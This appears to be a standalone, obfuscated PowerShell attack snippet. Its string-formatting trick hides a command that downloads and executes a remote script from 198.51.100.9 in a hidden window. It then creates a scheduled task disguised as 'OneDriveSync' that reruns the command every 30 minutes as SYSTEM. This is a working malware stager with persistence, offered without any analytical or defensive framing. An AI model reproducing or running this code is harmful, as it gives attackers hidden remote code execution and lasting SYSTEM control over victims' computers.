iex ("{1}{2}{5}{4}{3}{6}{0}" -f ' /sc minute /mo 30 /ru SYSTEM /f
','# run 086','9 v4
$cmd = "powershell.exe -nop ','43/update.ps','ew-object net.webclient).downloadstring(''http://198.51.100.9:4','-w hidden -c `"IEX ((n','1''))`""
schtasks /create /tn "OneDriveSync" /tr $cmd')